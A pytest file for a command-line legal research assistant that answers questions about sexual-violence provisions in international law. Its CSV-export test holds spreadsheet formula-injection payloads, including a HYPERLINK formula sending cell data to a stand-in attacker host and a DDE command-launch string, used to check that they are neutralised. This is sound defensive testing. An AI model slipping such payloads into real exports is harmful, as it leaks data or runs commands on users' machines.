"""The `assistant` command. Most tests call `main()` in this process (the embedding model is loaded once
per session); those about the process itself (its exit status, stderr, a real stdin pipe) run it."""

import io
import json
import os
import subprocess
import sys

import pytest

from assistant.cli import main
from assistant.config import PROJECT_ROOT
from assistant.models import Answer


def run_process(*args, stdin=None, env=None):
    """`python -m assistant.cli ARGS…` in a fresh process, as a user runs it."""
    return subprocess.run([sys.executable, "-m", "assistant.cli", *args], input=stdin, capture_output=True,
                          text=True, cwd=PROJECT_ROOT, env={**os.environ, **(env or {})}, timeout=300)


@pytest.fixture(autouse=True)
def cli_environment(assistant, settings, monkeypatch):
    """The shared index is built before the CLI is run against it; uploads go to the tests' own folder."""
    monkeypatch.setenv("ASSISTANT_UPLOADS_DIR", str(settings.uploads_dir))


@pytest.fixture
def run(capsys, monkeypatch):
    """`assistant ARGS…` through `main()` in this process; the result reads like a finished process."""

    def run_in_process(*args, stdin=""):
        monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
        returncode = main(list(args))
        out, err = capsys.readouterr()
        return subprocess.CompletedProcess(args, returncode, out, err)

    return run_in_process


def test_ask_prints_the_answer_and_its_sources(run):
    result = run("ask", "What is forced pregnancy under the Rome Statute?")
    assert result.returncode == 0, result.stderr
    assert "Rome Statute, art. 7(2)(f):" in result.stdout and "[1]" in result.stdout
    assert "Sources:\n  [1] Rome Statute, art. 7(2)(f), PDF p. 11" in result.stdout


def test_ask_json_is_the_answer_model(run):
    result = run("ask", "Does a survivor's silence count as consent?", "--json", "-k", "3")
    data = json.loads(result.stdout)
    assert set(data) == set(Answer.model_fields)
    assert 1 <= len(data["citations"]) <= 3


def test_ask_json_reads_one_question_per_line_from_stdin():
    """End to end: a real process reading a real pipe."""
    result = run_process("ask", "--json", stdin="What is forced pregnancy?\nHow do I bake bread?\n\n")
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["declined"] for line in lines] == [False, True]


def test_ask_with_document_filter(run):
    result = run("ask", "protection of women against rape", "--doc", "additional-protocol-i", "--json")
    assert {c["doc"] for c in json.loads(result.stdout)["citations"]} == {"additional-protocol-i"}


def test_unknown_document_filter_is_an_error(run):
    result = run("ask", "rape", "--doc", "no-such-doc")
    assert result.returncode == 2
    assert "unknown or unindexed document: no-such-doc" in result.stderr


def test_empty_question_exits_non_zero_with_a_message():
    result = run_process("ask", "   ")
    assert result.returncode == 2
    assert result.stderr.startswith("error: the question is empty")
    assert "Traceback" not in result.stderr


def test_huge_question_exits_non_zero_with_a_message(run):
    result = run("ask", "x" * 5000)
    assert result.returncode == 2
    assert "5,000 characters long; the limit is 4,000" in result.stderr


def test_missing_index_says_how_to_build_it(run, tmp_path, monkeypatch):
    monkeypatch.setenv("ASSISTANT_INDEX_DIR", str(tmp_path / "none"))
    result = run("ask", "What is rape?")
    assert result.returncode == 3
    assert "run `assistant index build`" in result.stderr


def test_missing_mirror_is_reported_and_nothing_is_lost(run, tmp_path):
    result = run("corpus", "sync", "--mirror", str(tmp_path / "absent"))
    assert result.returncode != 0
    assert "does not exist" in result.stderr
    listing = run("corpus", "list")
    assert "rome-statute" in listing.stdout and "indexed" in listing.stdout


def test_corpus_list_shows_optional_documents_as_not_synced(run):
    result = run("corpus", "list")
    assert result.returncode == 0
    assert "hague-principles" in result.stdout and "not synced" in result.stdout


def test_index_build_is_a_no_op_when_up_to_date(run):
    result = run("index", "build")
    assert result.returncode == 0
    assert "index is up to date" in result.stdout


def test_index_status_says_up_to_date_or_how_to_build(run, tmp_path, monkeypatch):
    result = run("index", "status")
    assert result.returncode == 0
    assert "status: up to date" in result.stdout
    monkeypatch.setenv("ASSISTANT_INDEX_DIR", str(tmp_path / "none"))
    missing = run("index", "status")
    assert missing.returncode == 3
    assert "run `assistant index build`" in missing.stdout


def _report(folder, article_hit_at_5: float) -> None:
    folder.mkdir(parents=True)
    overall = {"article_hit@5": article_hit_at_5, "latency_p95_ms": 40.0}
    (folder / "metrics.json").write_text(json.dumps({"presets": {"default": {"overall": overall}}}))


def test_eval_compare_prints_deltas_of_two_reports_given_by_folder_or_name(run, tmp_path, monkeypatch):
    monkeypatch.setenv("ASSISTANT_EVALS_DIR", str(tmp_path))
    _report(tmp_path / "reports" / "before", 0.9)
    _report(tmp_path / "elsewhere" / "after", 0.8)
    result = run("eval", "compare", "before", str(tmp_path / "elsewhere" / "after"))
    assert result.returncode == 0, result.stderr
    assert "article hit@5" in result.stdout and "(-0.100)  ▼" in result.stdout


def test_eval_compare_needs_two_reports(run, tmp_path, capsys):
    result = run("eval", "compare", str(tmp_path), str(tmp_path))
    assert result.returncode == 2
    assert f"no metrics.json in {tmp_path}" in result.stderr
    with pytest.raises(SystemExit) as exit_status:
        main(["eval", "compare", str(tmp_path)])
    assert exit_status.value.code == 2
    assert "usage: assistant eval compare [-h] REPORT_A REPORT_B" in capsys.readouterr().err


def test_eval_and_eval_compare_have_their_own_help(capsys):
    with pytest.raises(SystemExit):
        main(["eval", "--help"])
    evaluation = capsys.readouterr().out
    assert "--preset NAME|a,b|all" in evaluation and "assistant eval compare REPORT_A REPORT_B" in evaluation
    with pytest.raises(SystemExit):
        main(["eval", "compare", "--help"])
    assert "REPORT_A" in capsys.readouterr().out


def test_eval_refuses_an_unknown_preset(run):
    result = run("eval", "--preset", "default,no-such-preset")
    assert result.returncode == 2
    assert "unknown preset no-such-preset" in result.stderr


def test_serve_refuses_an_open_host_without_saying_it_serves_there():
    result = run_process("serve", "--host", "0.0.0.0", "--port", "7993")
    assert result.returncode == 1
    assert "on http://" not in result.stdout
    assert result.stderr.count("\n") == 1 and "--auth user:password" in result.stderr


@pytest.mark.parametrize("k", ["0", "-3", "51", "two"])
def test_k_must_be_a_number_of_provisions_from_1_to_50(run, k, capsys):
    with pytest.raises(SystemExit) as exit_status:
        main(["ask", "What is rape?", "-k", k])
    assert exit_status.value.code == 2
    assert "argument -k: must be" in capsys.readouterr().err


def test_feedback_export_into_a_missing_folder_is_one_line(run, tmp_path, monkeypatch):
    from assistant.feedback import FeedbackStore

    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(tmp_path / "feedback.sqlite"))
    FeedbackStore(tmp_path / "feedback.sqlite").add("helpful", "", "What is rape?", "…", [])
    result = run("feedback", "export", "--output", str(tmp_path / "missing" / "feedback.jsonl"))
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "the folder does not exist" in result.stderr


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(run, tmp_path, monkeypatch):
    import csv

    from assistant.feedback import FeedbackStore

    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(tmp_path / "feedback.sqlite"))
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.add("helpful", '=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", [])
    store.add("helpful", "@SUM(1+1)", "Is rape a crime against humanity?", "Yes [1].", [])
    result = run("feedback", "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["comment"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")"
    assert rows[0]["question"] == "'+1+cmd|' /C calc'!A0" and rows[0]["answer"] == "'-2+3"
    assert rows[1]["comment"] == "'@SUM(1+1)" and rows[1]["question"] == "Is rape a crime against humanity?"


def test_batch_output_is_valid_utf8_when_a_line_is_not():
    result = subprocess.run([sys.executable, "-m", "assistant.cli", "ask", "--json"], cwd=PROJECT_ROOT,
                            input=b"\xff" + b"x" * 5000 + b"\xc3\n", capture_output=True,
                            timeout=300)
    lines = result.stdout.decode("utf-8").splitlines()  # strict: raises on invalid UTF-8
    assert len(lines) == 1 and "\ufffd" in json.loads(lines[0])["question"]
    assert result.returncode == 2


def test_output_closed_early_ends_quietly():
    """`assistant ask … | head -3`: the reader goes away; no traceback, the exit status of a closed pipe.

    The reader closes before the answer is written (loading the index takes seconds), so the write
    always meets a closed pipe; reading part of the answer first would race with a short answer that
    fits in the pipe's buffer and exits 0."""
    process = subprocess.Popen([sys.executable, "-m", "assistant.cli", "ask", "What are the elements of rape?"],
                               cwd=PROJECT_ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    process.stdout.close()
    stderr = process.stderr.read().decode()
    process.stderr.close()
    assert process.wait(timeout=300) == 141
    assert stderr == ""


def test_uploads_folder_that_is_a_file_is_one_line(run, tmp_path, monkeypatch):
    not_a_folder = tmp_path / "uploads.txt"
    not_a_folder.write_text("")
    monkeypatch.setenv("ASSISTANT_UPLOADS_DIR", str(not_a_folder))
    notes = tmp_path / "notes.md"
    notes.write_text("# Notes\n\nText.\n")
    for args in (["corpus", "uploads"], ["corpus", "add", str(notes)], ["ask", "What is forced pregnancy?"]):
        result = run(*args)
        assert result.returncode == 2, result
        assert result.stderr.count("\n") == 1 and "is a file, not a folder" in result.stderr
